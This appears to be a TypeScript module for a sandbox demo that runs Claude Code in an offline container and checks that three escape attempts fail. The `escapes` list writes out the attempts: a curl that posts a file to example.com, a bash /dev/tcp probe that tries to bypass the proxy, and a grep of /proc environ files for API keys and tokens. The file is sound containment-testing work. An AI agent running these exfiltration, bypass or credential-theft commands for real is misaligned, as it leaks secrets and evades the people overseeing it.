import { mkdir, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { command } from '../base/command.ts'
import { UserError } from '../base/errors.ts'
import { terminalLine } from '../base/terminal-text.ts'
import { demoFolder, stateRoot } from '../config/paths.ts'
import { exec } from '../process/exec.ts'
import { type StackState, serviceOf } from '../stack/inspect.ts'
import { serviceOfSessions } from '../stack/services.ts'
import type { Context } from './context.ts'
import { bringUp } from './start/start-effects.ts'
import { workspaceHere } from './workspace-here.ts'

const welcome = `Claude Code read this file inside a container that has no way to the internet.
The model that told it to was a script. Put a key into .env and it is the real one.
`

export const demoPrompt = 'Read welcome.txt and tell me what it says.'

/** Starts the demo's stack, with a scripted model in place of Anthropic's API. */
export async function startDemo(
  context: Context,
): Promise<{ folder: string; id: string; state: StackState }> {
  const folder = demoFolder()
  // The first command on a machine creates the state folder, which must be private.
  await mkdir(stateRoot(), { recursive: true, mode: 0o700 })
  await mkdir(folder, { recursive: true })
  await writeFile(join(folder, 'welcome.txt'), welcome)
  const opened = await workspaceHere(context, { folder })
  const options = { mode: 'rehearsal', freshCopy: true, agents: [serviceOfSessions] } as const
  const { state } = await bringUp(context, opened, options)
  return { folder, id: opened.identity.id, state }
}

/** Sends the demo's prompt through the real Claude Code; returns its answer. */
export async function askDemo(context: Context, state: StackState): Promise<string> {
  const claude = ['claude', '--dangerously-skip-permissions', '-p', demoPrompt]
  const { code, stdout, stderr } = await runInside(context, state, claude)
  if (code === 0) return stdout.trim()
  throw new UserError(
    `Claude Code ended with exit code ${code}: ${terminalLine(stdout || stderr)}`,
    { hint: `run ${command('logs gateway')} to see its requests` },
  )
}

type Escape = {
  title: string
  /** Run in the claude container, as the agent. */
  command: string[]
  /** Whether the attempt was refused, judged by its output and not by the exit code alone. */
  held: (code: number, output: string) => boolean
}

/** The three escapes that an agent would try first. */
const escapes: readonly Escape[] = [
  {
    title: 'send a file to a host that is not on the allowlist',
    command: [
      ...['curl', '-sS', '--max-time', '10'],
      ...['--data-binary', '@welcome.txt', 'https://example.com/'],
    ],
    held: (code, output) => code !== 0 && !/example domain/i.test(output),
  },
  {
    title: 'reach this host around the proxy',
    // The address that Docker would give the host on this network, if it had one.
    command: [
      'bash',
      '-c',
      'host=$(hostname -i | sed "s/[0-9]* *$/1/"); timeout 3 bash -c "echo probe > /dev/tcp/$host/22" 2>/dev/null && echo "$host answered" || echo "$host: no answer"',
    ],
    held: (_code, output) => /no answer/.test(output) && !/answered/.test(output),
  },
  {
    title: 'find the credential in an environment or a process',
    command: [
      'bash',
      '-c',
      'cat /proc/[0-9]*/environ 2>/dev/null | tr "\\0" "\\n" | grep -aE "^(ANTHROPIC|CLAUDE_CODE)_[A-Z_]*(KEY|TOKEN)=" | grep -av placeholder || { echo "only the placeholder is there"; exit 1; }',
    ],
    held: code => code === 1,
  },
]

export type EscapeResult = { title: string; held: boolean; evidence: string }

/** Tries the escapes one after the other, inside the container. */
export async function* tryEscapes(
  context: Context,
  state: StackState,
): AsyncGenerator<EscapeResult> {
  for (const { title, command, held } of escapes) {
    const { code, stdout, stderr } = await runInside(context, state, command)
    const output = `${stdout}\n${stderr}`
    const last = output.split('\n').findLast(line => line.trim() !== '')
    yield { title, held: held(code, output), evidence: last ?? `exit code ${code}` }
  }
}

function runInside({ docker, signal }: Context, state: StackState, command: readonly string[]) {
  const claude = serviceOf(state, serviceOfSessions)
  return exec(
    docker.file,
    ['exec', '--workdir', '/workspace', claude?.container ?? '', ...command],
    { env: docker.env, signal, timeout: 120_000, input: '' },
  )
}
